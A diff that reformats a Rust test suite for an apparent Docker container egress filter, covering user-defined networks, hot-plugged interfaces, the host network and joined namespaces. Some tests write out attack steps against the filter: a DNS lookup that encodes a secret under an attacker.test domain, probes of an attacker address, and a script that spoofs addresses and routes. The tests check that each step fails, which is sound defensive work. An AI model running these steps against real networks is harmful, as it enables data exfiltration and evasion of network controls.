@@ -1,5 +1,5 @@
-//! Docker's network features under the filter: published ports, user-defined networks, hot plug, shared and missing
-//! namespaces.
+//! Docker's network features under the filter: published ports, user-defined networks, hot plug,
+//! shared and missing namespaces.
 
 use std::fs;
 use std::io::{Read as _, Write as _};
@@ -13,70 +13,149 @@ use crate::docker::{IMAGE, runtime};
 use crate::wire::leaks;
 
 pub(crate) const TESTS: &[Test] = &[
-    ("a_user_defined_network_resolves_names_and_is_filtered", user_defined),
+    (
+        "a_user_defined_network_resolves_names_and_is_filtered",
+        user_defined,
+    ),
     ("a_network_connected_later_is_filtered", hot_plug),
-    ("claims_about_a_network_connected_later_are_not_believed", claims),
-    ("a_network_without_an_end_on_the_host_cannot_be_connected_later", hot_plug_macvlan),
-    ("a_network_can_be_disconnected_and_connected_again", reconnect),
-    ("a_start_is_answered_whatever_happens_to_the_interfaces_meanwhile", busy_start),
+    (
+        "claims_about_a_network_connected_later_are_not_believed",
+        claims,
+    ),
+    (
+        "a_network_without_an_end_on_the_host_cannot_be_connected_later",
+        hot_plug_macvlan,
+    ),
+    (
+        "a_network_can_be_disconnected_and_connected_again",
+        reconnect,
+    ),
+    (
+        "a_start_is_answered_whatever_happens_to_the_interfaces_meanwhile",
+        busy_start,
+    ),
     ("network_none_has_no_network", none),
     ("a_containers_own_dns_server_is_not_asked", strange_server),
     ("the_hosts_network_is_filtered", host),
     ("a_container_that_joins_another_is_filtered_with_it", joined),
-    ("a_container_that_joins_another_brings_no_power_over_it", joined_armed),
-    ("joining_an_unfiltered_containers_network_is_refused", joined_unfiltered),
+    (
+        "a_container_that_joins_another_brings_no_power_over_it",
+        joined_armed,
+    ),
+    (
+        "joining_an_unfiltered_containers_network_is_refused",
+        joined_unfiltered,
+    ),
 ];
 
 fn user_defined(bed: &Bed) {
     let network = unique("net");
     bed.docker(&["network", "create", &network]).must_succeed();
     {
-        let flags = ["--network", network.as_str(), "--network-alias", "neighbour"];
-        let server = bed.start(&flags, &["sh", "-c", "echo friend >/srv/index.html; httpd -f -p 80 -h /srv"]);
+        let flags = [
+            "--network",
+            network.as_str(),
+            "--network-alias",
+            "neighbour",
+        ];
+        let server = bed.start(
+            &flags,
+            &[
+                "sh",
+                "-c",
+                "echo friend >/srv/index.html; httpd -f -p 80 -h /srv",
+            ],
+        );
         let client = bed.sleeper(&["--network", &network]);
         for name in ["neighbour", &server.name] {
             client.exec(&format!("nslookup {name}")).must_succeed();
         }
-        client.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
-        for probe in ["tcp 203.0.113.66:22", "udp 203.0.113.66:9999", "icmp 203.0.113.66"] {
+        client
+            .exec("curl -sS -m 5 https://allowed.test/")
+            .must_succeed();
+        for probe in [
+            "tcp 203.0.113.66:22",
+            "udp 203.0.113.66:9999",
+            "icmp 203.0.113.66",
+        ] {
             client.is_shut_out(probe);
         }
         let secret = unique("secret");
-        client.exec(&format!("nslookup {secret}.attacker.test")).must_fail();
-        assert!(!bed.internet_log().contains(&secret), "the embedded resolver asked outside");
+        client
+            .exec(&format!("nslookup {secret}.attacker.test"))
+            .must_fail();
+        assert!(
+            !bed.internet_log().contains(&secret),
+            "the embedded resolver asked outside"
+        );
     }
     bed.docker(&["network", "rm", &network]).must_succeed();
 }
 
 fn hot_plug(bed: &Bed) {
     let network = unique("late");
-    bed.docker(&["network", "create", "--opt", "com.docker.network.bridge.name=late0", &network]).must_succeed();
+    bed.docker(&[
+        "network",
+        "create",
+        "--opt",
+        "com.docker.network.bridge.name=late0",
+        &network,
+    ])
+    .must_succeed();
     {
         let neighbour = bed.start_with("runc", &["--network", &network], &["sleep", "600"]);
         let container = bed.sleeper(&[]);
         let before = bed.ports_of("late0");
         let bridge = Capture::start(bed, "late0", "in");
-        bed.docker(&["network", "connect", &network, &container.name]).must_succeed();
-        wait_for("the second interface", || container.exec("ip -o addr show eth1").stdout.contains("inet "));
+        bed.docker(&["network", "connect", &network, &container.name])
+            .must_succeed();
+        wait_for("the second interface", || {
+            container
+                .exec("ip -o addr show eth1")
+                .stdout
+                .contains("inet ")
+        });
         // The bridge shows what is for the host; what is for others on it passes from port to port.
-        let port = bed.ports_of("late0").into_iter().find(|port| !before.contains(port)).unwrap();
+        let port = bed
+            .ports_of("late0")
+            .into_iter()
+            .find(|port| !before.contains(port))
+            .unwrap();
         // It is kept down until the gateway has the other end.
         let state = bed.inside(&format!("/sys/class/net/{port}/operstate"));
-        wait_for("the port", || fs::read_to_string(&state).is_ok_and(|state| state.trim() == "up"));
+        wait_for("the port", || {
+            fs::read_to_string(&state).is_ok_and(|state| state.trim() == "up")
+        });
         let port = Capture::start(bed, &port, "in");
-        let gateway = bed.docker(&["network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", &network]).stdout;
-        let neighbour =
-            neighbour.inspect(&format!("{{{{(index .NetworkSettings.Networks \"{network}\").IPAddress}}}}"));
+        let gateway = bed
+            .docker(&[
+                "network",
+                "inspect",
+                "-f",
+                "{{(index .IPAM.Config 0).Gateway}}",
+                &network,
+            ])
+            .stdout;
+        let neighbour = neighbour.inspect(&format!(
+            "{{{{(index .NetworkSettings.Networks \"{network}\").IPAddress}}}}"
+        ));
         for target in [gateway.trim(), &neighbour] {
-            for probe in [format!("tcp {target}:22"), format!("udp {target}:9999"), format!("icmp {target}")] {
+            for probe in [
+                format!("tcp {target}:22"),
+                format!("udp {target}:9999"),
+                format!("icmp {target}"),
+            ] {
                 container.is_shut_out(&probe);
             }
         }
-        container.exec("curl -sS -m 5 http://allowed.test/").must_succeed();
+        container
+            .exec("curl -sS -m 5 http://allowed.test/")
+            .must_succeed();
         for capture in [port, bridge] {
             assert_eq!(leaks(&capture.stop()), Vec::<&str>::new());
         }
-        bed.docker(&["network", "disconnect", &network, &container.name]).must_succeed();
+        bed.docker(&["network", "disconnect", &network, &container.name])
+            .must_succeed();
         container.exec("ip link show eth1").must_fail();
     }
     bed.docker(&["network", "rm", &network]).must_succeed();
@@ -85,17 +164,27 @@ fn hot_plug(bed: &Bed) {
 /// What `start` asks the gateway, said in two pieces while the container's interfaces change.
 fn busy_start(bed: &Bed) {
     let container = bed.sleeper(&[]);
-    let state = bed.state_of(&container.id())["plan"]["state"].as_str().unwrap().to_owned();
+    let state = bed.state_of(&container.id())["plan"]["state"]
+        .as_str()
+        .unwrap()
+        .to_owned();
     // The whole path is too long for a socket's name.
     let state = fs::File::open(bed.inside(&state)).unwrap();
-    let mut asked = UnixStream::connect(format!("/proc/self/fd/{}/control", state.as_raw_fd())).unwrap();
-    asked.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    let mut asked =
+        UnixStream::connect(format!("/proc/self/fd/{}/control", state.as_raw_fd())).unwrap();
+    asked
+        .set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
     let question = framed(r#"{"v":1,"request":"settle"}"#);
     asked.write_all(&question[..9]).unwrap();
     let pid = container.pid().to_string();
     let enter = ["nsenter", "--target", &pid, "--net", "--", "ip", "address"];
     for change in ["add", "del"].repeat(10) {
-        run(COMMAND_SECONDS, &[&enter[..], &[change, "192.0.2.77/32", "dev", "lo"]].concat()).must_succeed();
+        run(
+            COMMAND_SECONDS,
+            &[&enter[..], &[change, "192.0.2.77/32", "dev", "lo"]].concat(),
+        )
+        .must_succeed();
     }
     asked.write_all(&question[9..]).unwrap();
     let mut answer = Vec::new();
@@ -104,25 +193,41 @@ fn busy_start(bed: &Bed) {
 }
 
 fn framed(body: &str) -> Vec<u8> {
-    [&u32::try_from(body.len()).unwrap().to_be_bytes(), body.as_bytes()].concat()
+    [
+        &u32::try_from(body.len()).unwrap().to_be_bytes(),
+        body.as_bytes(),
+    ]
+    .concat()
 }
 
-/// While a network is being connected, the container can give the interface any address and route. What it claims must
-/// neither draw the filter's own questions to it, nor be answered for on the wire.
+/// While a network is being connected, the container can give the interface any address and route.
+/// What it claims must neither draw the filter's own questions to it, nor be answered for on the
+/// wire.
 fn claims(bed: &Bed) {
     let network = unique("claimed");
-    bed.docker(&["network", "create", "--subnet", "172.29.0.0/24", &network]).must_succeed();
+    bed.docker(&["network", "create", "--subnet", "172.29.0.0/24", &network])
+        .must_succeed();
     {
         let container = bed.sleeper(&["--cap-add", "NET_ADMIN"]);
         let claim = "while ! ip addr add 198.51.100.53/32 dev eth1; do :; done 2>/dev/null; ip addr add 172.29.0.1/32 dev eth1;
                      ip route add 203.0.113.0/24 via 172.29.0.9 dev eth1 onlink; while :; do ip link set eth1 up && break; done; touch /tmp/done";
-        bed.docker(&["exec", "--detach", &container.name, "sh", "-c", claim]).must_succeed();
-        bed.docker(&["network", "connect", &network, &container.name]).must_succeed();
+        bed.docker(&["exec", "--detach", &container.name, "sh", "-c", claim])
+            .must_succeed();
+        bed.docker(&["network", "connect", &network, &container.name])
+            .must_succeed();
         let adopted = |record: &serde_json::Value| record["rule"] == "plugged in";
-        wait_for("the second interface", || container.records().iter().any(adopted));
-        wait_for("the claims", || container.exec("test -e /tmp/done").code == 0);
-        container.exec("ip addr show eth1 | grep -q 198.51.100.53").must_succeed();
-        let page = container.exec("curl -sS -m 5 --resolve fresh.wild.test:80:198.51.100.30 http://fresh.wild.test/");
+        wait_for("the second interface", || {
+            container.records().iter().any(adopted)
+        });
+        wait_for("the claims", || {
+            container.exec("test -e /tmp/done").code == 0
+        });
+        container
+            .exec("ip addr show eth1 | grep -q 198.51.100.53")
+            .must_succeed();
+        let page = container.exec(
+            "curl -sS -m 5 --resolve fresh.wild.test:80:198.51.100.30 http://fresh.wild.test/",
+        );
         assert!(page.stdout.contains("I am *.wild.test"), "{page:?}");
     }
     bed.docker(&["network", "rm", &network]).must_succeed();
@@ -131,51 +236,100 @@ fn claims(bed: &Bed) {
 /// Nobody could hold such an interface still until it is adopted, so the container never gets it.
 fn hot_plug_macvlan(bed: &Bed) {
     let network = unique("macvlan");
-    let create = ["network", "create", "--driver", "macvlan", "--opt", "parent=internet", "--subnet", "192.0.2.128/28"];
-    bed.docker(&[&create[..], &[&network]].concat()).must_succeed();
+    let create = [
+        "network",
+        "create",
+        "--driver",
+        "macvlan",
+        "--opt",
+        "parent=internet",
+        "--subnet",
+        "192.0.2.128/28",
+    ];
+    bed.docker(&[&create[..], &[&network]].concat())
+        .must_succeed();
     {
         let container = bed.sleeper(&["--cap-add", "NET_ADMIN"]);
         bed.docker(&["network", "connect", &network, &container.name]);
         let refused = |record: &serde_json::Value| {
-            record["verdict"] == "deny" && record["reason"].as_str().unwrap_or_default().contains("running container")
+            record["verdict"] == "deny"
+                && record["reason"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .contains("running container")
         };
         wait_for("the record", || container.records().iter().any(refused));
-        assert_eq!(container.exec("ls /sys/class/net").stdout.split_whitespace().collect::<Vec<_>>(), ["eth0", "lo"]);
-        crate::filter::nothing_leaks_while(bed, &container, || crate::filter::denied_probes(&container));
+        assert_eq!(
+            container
+                .exec("ls /sys/class/net")
+                .stdout
+                .split_whitespace()
+                .collect::<Vec<_>>(),
+            ["eth0", "lo"]
+        );
+        crate::filter::nothing_leaks_while(bed, &container, || {
+            crate::filter::denied_probes(&container)
+        });
     }
     bed.docker(&["network", "rm", &network]).must_succeed();
 }
 
 fn reconnect(bed: &Bed) {
     let container = bed.sleeper(&[]);
-    bed.docker(&["network", "disconnect", "bridge", &container.name]).must_succeed();
+    bed.docker(&["network", "disconnect", "bridge", &container.name])
+        .must_succeed();
     container.exec("ip link show eth0").must_fail();
-    bed.docker(&["network", "connect", "bridge", &container.name]).must_succeed();
-    wait_for("the network to work again", || container.exec("curl -sS -m 2 http://allowed.test/").code == 0);
-    crate::filter::nothing_leaks_while(bed, &container, || crate::filter::denied_probes(&container));
+    bed.docker(&["network", "connect", "bridge", &container.name])
+        .must_succeed();
+    wait_for("the network to work again", || {
+        container.exec("curl -sS -m 2 http://allowed.test/").code == 0
+    });
+    crate::filter::nothing_leaks_while(bed, &container, || {
+        crate::filter::denied_probes(&container)
+    });
 }
 
-/// The attacker's machine runs a name server, too: an allowed name would be resolved by it, and its labels be read.
+/// The attacker's machine runs a name server, too: an allowed name would be resolved by it, and its
+/// labels be read.
 fn strange_server(bed: &Bed) {
     let container = bed.sleeper(&["--dns", "203.0.113.66"]);
     let name = format!("{}.wild.test", unique("labels"));
     container.exec(&format!("nslookup {name}")).must_succeed();
     let log = bed.internet_log();
     let asked: Vec<&str> = log.lines().filter(|line| line.contains(&name)).collect();
-    assert!(!asked.is_empty() && asked.iter().all(|line| line.contains("198.51.100.53:53")), "{asked:?}");
-    let says = |record: &serde_json::Value| record["notice"].as_str().unwrap_or_default().contains("203.0.113.66");
+    assert!(
+        !asked.is_empty() && asked.iter().all(|line| line.contains("198.51.100.53:53")),
+        "{asked:?}"
+    );
+    let says = |record: &serde_json::Value| {
+        record["notice"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("203.0.113.66")
+    };
     assert!(container.records().iter().any(says), "no notice");
 }
 
 fn none(bed: &Bed) {
-    let said = bed.run(&["--network", "none"], "ls /sys/class/net").must_succeed().stdout.clone();
+    let said = bed
+        .run(&["--network", "none"], "ls /sys/class/net")
+        .must_succeed()
+        .stdout
+        .clone();
     assert_eq!(said.trim(), "lo");
 }
 
 fn host(bed: &Bed) {
     let container = bed.sleeper(&["--network", "host"]);
-    container.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
-    for probe in ["tcp 203.0.113.66:22", "udp 203.0.113.66:9999", "icmp 203.0.113.66", "tcp 192.0.2.2:22"] {
+    container
+        .exec("curl -sS -m 5 https://allowed.test/")
+        .must_succeed();
+    for probe in [
+        "tcp 203.0.113.66:22",
+        "udp 203.0.113.66:9999",
+        "icmp 203.0.113.66",
+        "tcp 192.0.2.2:22",
+    ] {
         container.is_shut_out(probe);
     }
     container.exec("ip link show docker0").must_fail();
@@ -185,28 +339,52 @@ fn joined(bed: &Bed) {
     let first = bed.sleeper(&[]);
     let network = format!("container:{}", first.name);
     let second = bed.sleeper(&["--network", &network]);
-    second.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
+    second
+        .exec("curl -sS -m 5 https://allowed.test/")
+        .must_succeed();
     crate::filter::nothing_leaks_while(bed, &first, || crate::filter::denied_probes(&second));
 }
 
-/// Capabilities over a network namespace are bounded by the user namespace that owns it: the joiner has to share it.
+/// Capabilities over a network namespace are bounded by the user namespace that owns it: the joiner
+/// has to share it.
 fn joined_armed(bed: &Bed) {
     let armed = ["--cap-add", "NET_ADMIN"];
     let first = bed.sleeper(&armed);
     let network = format!("container:{}", first.name);
     let second = bed.sleeper(&["--network", &network, "--cap-add", "NET_ADMIN"]);
-    let said = second.exec("attacker rtnetlink eth0").must_succeed().stdout.clone();
+    let said = second
+        .exec("attacker rtnetlink eth0")
+        .must_succeed()
+        .stdout
+        .clone();
     crate::attacks::nothing_was_permitted(&said);
     // One without a user namespace of its own.
     let plain = bed.start_with("boundary-none", &[], &["sleep", "600"]);
     let network = format!("container:{}", plain.name);
     let answer = bed.run(&["--network", &network, "--cap-add", "NET_ADMIN"], "true");
-    assert!(answer.must_fail().stderr.contains("CAP_NET_ADMIN"), "{}", answer.stderr);
+    assert!(
+        answer.must_fail().stderr.contains("CAP_NET_ADMIN"),
+        "{}",
+        answer.stderr
+    );
 }
 
 fn joined_unfiltered(bed: &Bed) {
     let plain = bed.start_with("runc", &[], &["sleep", "600"]);
     let network = format!("container:{}", plain.name);
-    let answer = bed.docker(&["run", "--rm", "--runtime", &runtime(), "--network", &network, IMAGE, "true"]);
-    assert!(answer.must_fail().stderr.contains("gateway"), "{}", answer.stderr);
+    let answer = bed.docker(&[
+        "run",
+        "--rm",
+        "--runtime",
+        &runtime(),
+        "--network",
+        &network,
+        IMAGE,
+        "true",
+    ]);
+    assert!(
+        answer.must_fail().stderr.contains("gateway"),
+        "{}",
+        answer.stderr
+    );
 }
